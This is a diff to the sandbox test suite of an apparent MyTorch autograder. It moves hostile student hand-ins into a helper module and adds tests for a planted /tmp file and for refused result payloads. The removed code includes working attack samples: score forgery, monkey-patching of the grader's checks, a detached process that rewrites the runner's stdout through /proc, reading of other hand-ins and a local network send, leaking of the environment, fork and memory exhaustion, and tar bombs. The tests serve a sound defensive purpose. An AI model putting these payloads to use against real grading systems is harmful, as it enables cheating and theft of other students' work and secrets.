@@ -23,7 +23,6 @@ import signal
 import socket
 import subprocess
 import sys
-import tarfile
 import time
 from pathlib import Path
 
@@ -33,187 +32,28 @@ ROOT = Path(__file__).resolve().parents[1]
 if str(ROOT) not in sys.path:
     sys.path.insert(0, str(ROOT))
 
+from hostile_handins import (  # noqa: E402
+    ENVLEAK,
+    FAKE,
+    FLOOD,
+    FORKER,
+    HANG,
+    MARK,
+    PATCHER,
+    SECRET,
+    TOKEN,
+    forger,
+    handin,
+    malformed,
+    package,
+    snooper,
+    survivor,
+    tar_of,
+)  # fmt: skip
+
 from autograder.containment import Containment, SandboxUnavailableError  # noqa: E402
-from autograder.mutants import WRONG_SIGN, broken_copy  # noqa: E402
 
 pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the grader's sandbox needs Linux")
-
-MARK = "31.4159"
-"""What a hand-in's background processes are called (``sleep 31.4159``): found afterwards, they
-survived."""
-TOKEN = "grader-token-5d1c9e"
-"""A secret in the runner's environment: no report may show it."""
-SECRET = "VICTIM-SECRET-4242"
-"""Text inside another student's hand-in: no other report may show it."""
-FAKE = '{"scores": {"operations": 999}}'
-"""The forged Autolab line: it may appear in a report only as the quoted output of a test."""
-
-
-# --------------------------------------------------------------------------- building hand-ins
-def _package(folder: Path, code: str = "", wrong_mul: bool = False, bare: bool = False) -> Path:
-    """``folder/mytorch``: MyTorch's own (or with a wrong-sign ``mul_backward``, or only an
-    ``__init__.py``), with ``code`` appended to its ``__init__.py`` (run when it is imported)."""
-    if bare:
-        (folder / "mytorch").mkdir(parents=True)
-        (folder / "mytorch" / "__init__.py").write_text(code)
-        return folder
-    if wrong_mul:
-        broken_copy(ROOT, folder, "mul_backward", WRONG_SIGN)
-    else:
-        shutil.copytree(ROOT / "mytorch", folder / "mytorch", ignore=shutil.ignore_patterns("__pycache__"))
-    init = folder / "mytorch" / "__init__.py"
-    init.write_text(init.read_text() + "\n" + code)
-    return folder
-
-
-def _tar(folder: Path, archive: Path, mode: str = "w") -> Path:
-    with tarfile.open(archive, mode) as tar:
-        tar.add(folder / "mytorch", arcname="mytorch", filter=lambda m: None if "__pycache__" in m.name else m)
-    return archive
-
-
-def _handin(tmp: Path, inbox: Path, name: str, **package) -> Path:
-    mode = "w:gz" if name.endswith(".gz") else "w"
-    return _tar(_package(tmp / f"src-{name}", **package), inbox / name, mode)
-
-
-def _forger(targets: list[str]) -> str:
-    """No implementation at all: it prints a fake Autolab line, writes fake scores wherever it
-    can, hunts the worker's result pipe in its callers' frames and sends a forged result
-    (zeros, and an object array that would need pickle), then exits."""
-    return f'''
-import io, json, os, struct, sys
-import numpy as np
-print({FAKE!r}, flush=True)
-for path in {targets!r}:
-    try:
-        with open(path, "a") as out:
-            out.write({FAKE!r} + "\\n")
-    except OSError:
-        pass
-frame, fd = sys._getframe(), None
-while frame is not None and fd is None:
-    config = frame.f_locals.get("config")
-    if isinstance(config, dict) and "result_fd" in config:
-        fd = config["result_fd"]
-    frame = frame.f_back
-if fd is not None:
-    buffer = io.BytesIO()
-    np.savez(buffer, **{{"gradient of input 0": np.zeros((3, 4)), "gradient of input 1": np.zeros((3, 4)),
-                        "verdict": np.array([{{"passed": True}}], dtype=object)}})
-    payload = buffer.getvalue()
-    os.write(fd, b"R" + b"D" + struct.pack(">Q", len(payload)) + payload)
-    os._exit(0)
-'''
-
-
-PATCHER = '''
-import inspect, sys
-import numpy
-numpy.abs = lambda x, *args, **kwargs: numpy.zeros_like(x)
-numpy.allclose = lambda *args, **kwargs: True
-numpy.testing.assert_allclose = lambda *args, **kwargs: None
-for name, module in list(sys.modules.items()):
-    if name.startswith("autograder"):
-        for attribute in ("assert_close", "judge", "_assert_equal", "decode_arrays"):
-            if hasattr(module, attribute):
-                setattr(module, attribute, lambda *args, **kwargs: None)
-for info in inspect.stack():
-    found = [k for k in info.frame.f_locals if k in ("expected", "want", "reference")]
-    if found:
-        print("FOUND REFERENCE", found)
-'''
-"""Replaces the comparison helpers, numpy.abs and friends, and looks for the expected arrays
-in its callers' frames; with a wrong-sign mul_backward."""
-
-
-def _survivor(targets: list[str]) -> str:
-    """Double-forks a ``setsid`` process that waits, then appends fake scores to the reports and
-    to the runner's own stdout (through /proc), and stays alive as ``sleep 31.4159``."""
-    return f'''
-import glob, os, time
-if os.fork() == 0:
-    os.setsid()
-    if os.fork() == 0:
-        try:
-            time.sleep(1.5)
-            for path in {targets!r}:
-                try:
-                    with open(path, "a") as out:
-                        out.write({FAKE!r} + "\\n")
-                except OSError:
-                    pass
-            for stdout in glob.glob("/proc/[0-9]*/fd/1"):
-                try:
-                    with open(os.path.join(os.path.dirname(os.path.dirname(stdout)), "cmdline"), "rb") as f:
-                        if b"runner.py" in f.read():
-                            with open(stdout, "w") as out:
-                                out.write({FAKE!r} + "\\n")
-                except OSError:
-                    pass
-            os.execv("/bin/sleep", ["sleep", {MARK!r}])
-        finally:
-            os._exit(0)
-    os._exit(0)
-'''
-
-
-def _snooper(grader: Path, inbox: Path, port: int) -> str:
-    """Reads other hand-ins (the archives and anything extracted), tries the network, and
-    appends a no-op comparison to the grader's own files."""
-    return f'''
-import glob, os, socket
-stolen = b""
-for pattern in [{str(inbox)!r} + "/*", "/tmp/mytorch-*/**/*"]:
-    for path in glob.glob(pattern, recursive=True)[:200]:
-        try:
-            with open(path, "rb") as f:
-                stolen += f.read(100000)
-        except OSError:
-            pass
-print("STOLEN", stolen[-3000:])
-try:
-    socket.create_connection(("127.0.0.1", {port}), timeout=0.5).sendall(b"STOLEN")
-except OSError as error:
-    print("no network:", error)
-for path in [{str(grader / "autograder" / "checks.py")!r}, {str(grader / "autograder" / "grading.py")!r}]:
-    try:
-        with open(path, "a") as out:
-            out.write("\\ndef assert_close(*args, **kwargs):\\n    return None\\n")
-    except OSError:
-        pass
-'''
-
-
-ENVLEAK = "import os\nraise ImportError('environment: ' + repr(dict(os.environ)))\n"
-FLOOD = "import sys\nfor _ in range(8):\n    sys.stdout.write('x' * 2**20)\nraise ImportError('flooded')\n"
-FORKER = f'''
-def _greedy_mul(grad_output, a, b):
-    import os
-    import numpy as np
-    try:
-        np.ones(100 * 2**20)
-        notes = "allocated 800 MB"
-    except MemoryError:
-        notes = "allocation refused"
-    children = 0
-    for _ in range(12):
-        try:
-            pid = os.fork()
-        except OSError:
-            break
-        if pid == 0:
-            os.execv("/bin/sleep", ["sleep", {MARK!r}])
-        children += 1
-    raise RuntimeError(f"{{notes}}; forked {{children}}")
-
-
-from mytorch.nn import functional as _functional
-_functional.mul_backward = _greedy_mul
-'''
-"""Allocates 800 MB (over ``--memory 400``) and forks up to 12 sleepers (``--max-procs 4``)."""
-HANG = "while True:\n    pass\n"
-
 
 # --------------------------------------------------------------------------- running and checking
 @pytest.fixture(scope="module")
@@ -275,55 +115,6 @@ def sandbox_or_skip(mode: str) -> None:
         pytest.skip(f"the kernel refuses this sandbox here: {error}")
 
 
-# --------------------------------------------------------------------------- malformed archives
-def _member(tar: tarfile.TarFile, name: str, data: bytes = b"x = 1\n") -> None:
-    info = tarfile.TarInfo(name)
-    info.size = len(data)
-    tar.addfile(info, io.BytesIO(data))
-
-
-def malformed(inbox: Path) -> dict[str, str]:
-    """Archives that must be refused, and a fragment of each one's reason."""
-    with tarfile.open(inbox / "long-component.tar", "w", format=tarfile.PAX_FORMAT) as tar:
-        _member(tar, "mytorch/__init__.py")
-        _member(tar, "mytorch/" + "a" * 300 + ".py")
-    with tarfile.open(inbox / "long-path.tar", "w", format=tarfile.GNU_FORMAT) as tar:
-        _member(tar, "mytorch/__init__.py")
-        _member(tar, "mytorch/" + "/".join(["d" * 200] * 25) + "/x.py")
-    with tarfile.open(inbox / "file-and-folder.tar", "w") as tar:
-        _member(tar, "mytorch")
-        _member(tar, "mytorch/__init__.py")
-    whole = io.BytesIO()
-    with tarfile.open(fileobj=whole, mode="w:gz") as tar:
-        for i in range(40):
-            _member(tar, f"mytorch/m{i}.py", bytes(range(256)) * 40)
-    (inbox / "truncated.tar.gz").write_bytes(whole.getvalue()[: len(whole.getvalue()) // 2])
-    header = tarfile.TarInfo("././@LongLink")
-    header.type, header.size = tarfile.GNUTYPE_LONGNAME, 8 * 2**30  # claims 8 GiB, holds 9 KB
-    (inbox / "header-bomb.tar").write_bytes(header.tobuf(format=tarfile.GNU_FORMAT)[:512] + b"a" * 9000)
-    with tarfile.open(inbox / "pax-bomb.tar.gz", "w:gz", format=tarfile.PAX_FORMAT) as tar:
-        _member(tar, "mytorch/" + "b" * 1_500_000 + ".py")  # a 1.5 MB pax header, compressed to ~2 KB
-    with tarfile.open(inbox / "zeros.tar.gz", "w:gz") as tar:
-        _member(tar, "mytorch/__init__.py", bytes(15 * 2**20))
-    with tarfile.open(inbox / "many.tar", "w") as tar:
-        for i in range(2001):
-            _member(tar, f"mytorch/m{i}.py", b"")
-    (inbox / "empty.tar").write_bytes(b"")
-    (inbox / "junk.tgz").write_bytes(b"not an archive at all")
-    return {
-        "long-component.tar": "name component over 255 bytes",
-        "long-path.tar": "path over 4096 bytes",
-        "file-and-folder.tar": "collides with an earlier member",
-        "truncated.tar.gz": "not a readable tar archive",
-        "header-bomb.tar": "long-name header of 8589934592 bytes",
-        "pax-bomb.tar.gz": "long-name header of 1500",
-        "zeros.tar.gz": "expands more than 200 times",
-        "many.tar": "more than 2000 members",
-        "empty.tar": "not a readable tar archive",
-        "junk.tgz": "not a readable tar archive",
-    }
-
-
 # --------------------------------------------------------------------------- the batch
 @pytest.fixture(scope="module")
 def batch(grader, tmp_path_factory):
@@ -338,18 +129,18 @@ def batch(grader, tmp_path_factory):
     listener.listen(4)
     listener.setblocking(False)
     targets = [str(out / "scores.csv"), str(out / "alice.tar.json"), str(out / "alice.tar.txt")]
-    _handin(tmp, inbox, "alice.tar")
-    _handin(tmp, inbox, "alice.tar.gz", wrong_mul=True)
-    _handin(tmp, inbox, "forger.tar", code=_forger(targets), bare=True)
-    _handin(tmp, inbox, "patcher.tar", code=PATCHER, wrong_mul=True)
-    _handin(tmp, inbox, "survivor.tar", code=_survivor(targets))
-    _handin(tmp, inbox, "b-snooper.tar", code=_snooper(grader, inbox, listener.getsockname()[1]))
-    victim = _package(tmp / "src-victim", wrong_mul=True)
+    handin(tmp, inbox, "alice.tar")
+    handin(tmp, inbox, "alice.tar.gz", wrong_mul=True)
+    handin(tmp, inbox, "forger.tar", code=forger(targets), bare=True)
+    handin(tmp, inbox, "patcher.tar", code=PATCHER, wrong_mul=True)
+    handin(tmp, inbox, "survivor.tar", code=survivor(targets))
+    handin(tmp, inbox, "b-snooper.tar", code=snooper(grader, inbox, listener.getsockname()[1]))
+    victim = package(tmp / "src-victim", wrong_mul=True)
     (victim / "mytorch" / "notes.py").write_text(f"# {SECRET}\n")
-    _tar(victim, inbox / "z-victim.tar")
-    _handin(tmp, inbox, "envleak.tar", code=ENVLEAK, bare=True)
-    _handin(tmp, inbox, "flood.tar", code=FLOOD, bare=True)
-    _handin(tmp, inbox, "forker.tar", code=FORKER)
+    tar_of(victim, inbox / "z-victim.tar")
+    handin(tmp, inbox, "envleak.tar", code=ENVLEAK, bare=True)
+    handin(tmp, inbox, "flood.tar", code=FLOOD, bare=True)
+    handin(tmp, inbox, "forker.tar", code=FORKER)
     refused = malformed(inbox)
     before = snapshot(grader, inbox)
     start = time.monotonic()
@@ -461,9 +252,11 @@ def test_in_every_sandbox_mode_a_wrong_kernel_costs_its_point_and_nothing_surviv
     inbox, out = tmp_path / "inbox", tmp_path / "grades"
     inbox.mkdir()
     targets = [str(out / "scores.csv"), str(out / "mytorch.tar.txt")]
-    _handin(tmp_path, inbox, "mytorch.tar", code=_survivor(targets))
-    _handin(tmp_path, inbox, "wrong.tar", wrong_mul=True)
-    _handin(tmp_path, inbox, "forger.tar", code=_forger(targets), bare=True)
+    handin(tmp_path, inbox, "mytorch.tar", code=survivor(targets))
+    planted = Path("/tmp") / f"planted-by-a-handin-{MARK}-{os.getpid()}"
+    plant = f"open({str(planted)!r}, 'w').write('for the next hand-in')\n" if mode == "uid" else ""
+    handin(tmp_path, inbox, "wrong.tar", code=plant, wrong_mul=True)
+    handin(tmp_path, inbox, "forger.tar", code=forger(targets), bare=True)
     before = snapshot(grader, inbox)
     done = run_grader(grader, "--handin-dir", str(inbox), "--out-dir", str(out), "--sandbox", mode,
                       "operations", cwd=tmp_path)  # fmt: skip
@@ -477,6 +270,7 @@ def test_in_every_sandbox_mode_a_wrong_kernel_costs_its_point_and_nothing_surviv
     table = scores_csv(out / "scores.csv")
     assert {name: row["operations"] for name, row in table.items()} == {"mytorch.tar": "6", "wrong.tar": "5",
                                                                         "forger.tar": "0"}  # fmt: skip
+    assert not planted.exists()  # what a uid left in /tmp is removed after its test
 
 
 USERNS_SCRIPT = """
@@ -503,7 +297,7 @@ def test_in_a_user_namespace_workers_are_contained_too(tmp_path):
     taken here even as root, in a process of its own."""
     if shutil.which("unshare") is None:
         pytest.skip("unshare (util-linux) is not installed")
-    wrong = _package(tmp_path / "wrong", wrong_mul=True)
+    wrong = package(tmp_path / "wrong", wrong_mul=True)
     done = subprocess.run([sys.executable, "-c", USERNS_SCRIPT, str(ROOT), str(wrong)], capture_output=True,
                           text=True, timeout=120)  # fmt: skip
     assert done.returncode == 0, done.stderr[-2000:]
@@ -515,7 +309,7 @@ def test_in_a_user_namespace_workers_are_contained_too(tmp_path):
 # --------------------------------------------------------------------------- one hand-in, Autolab
 def test_the_autolab_line_is_last_and_true_and_results_json_stays(grader, tmp_path):
     results = tmp_path / "results.json"
-    archive = _handin(tmp_path, tmp_path, "handin.tar", code=_survivor([str(results)]) + _forger([str(results)]),
+    archive = handin(tmp_path, tmp_path, "handin.tar", code=survivor([str(results)]) + forger([str(results)]),
                       bare=True)  # fmt: skip
     done = run_grader(grader, "--handin", str(archive), "--json", str(results), "operations", cwd=tmp_path)
     assert done.returncode == 0, done.stderr[-2000:]
@@ -527,7 +321,7 @@ def test_the_autolab_line_is_last_and_true_and_results_json_stays(grader, tmp_pa
 
 
 def test_an_import_that_never_returns_costs_the_handin_its_time_limit_at_most(grader, tmp_path):
-    archive = _handin(tmp_path, tmp_path, "hang.tar", code=HANG)
+    archive = handin(tmp_path, tmp_path, "hang.tar", code=HANG)
     start = time.monotonic()
     done = run_grader(grader, "--handin", str(archive), "--startup-timeout", "2", "--handin-timeout", "5",
                       "operations", cwd=tmp_path)  # fmt: skip
@@ -535,3 +329,32 @@ def test_an_import_that_never_returns_costs_the_handin_its_time_limit_at_most(gr
     assert done.stdout.strip().splitlines()[-1] == json.dumps({"scores": {"operations": 0}})
     assert "TIMEOUT: importing the hand-in took over 2 s" in done.stdout
     assert "time limit of 5 s ran out" in done.stdout
+
+
+# --------------------------------------------------------------------------- the result channel
+def _npz(compress: bool = False, **arrays) -> bytes:
+    import numpy as np
+
+    buffer = io.BytesIO()
+    (np.savez_compressed if compress else np.savez)(buffer, **arrays)
+    return buffer.getvalue()
+
+
+def test_the_channel_accepts_named_numbers_only():
+    import numpy as np
+
+    from autograder.protocol import MAX_RESULT_BYTES, ProtocolError, decode_arrays
+
+    got = decode_arrays(_npz(a=np.arange(3.0), flag=np.array(True)))
+    assert set(got) == {"a", "flag"} and got["a"].tolist() == [0.0, 1.0, 2.0]
+    refusals = {
+        "is not a readable array": _npz(verdict=np.array([{"passed": True}], dtype=object)),
+        "numbers only": _npz(text=np.array(["passed"])),
+        "compressed": _npz(compress=True, a=np.zeros(10)),
+        "not an .npz archive": b"PK\x03\x04 but not a zip",
+        "arrays, over the limit": _npz(**{f"a{i}": np.zeros(1) for i in range(65)}),
+        "over the limit of": bytes(MAX_RESULT_BYTES + 1),
+    }
+    for reason, payload in refusals.items():
+        with pytest.raises(ProtocolError, match=reason):
+            decode_arrays(payload)
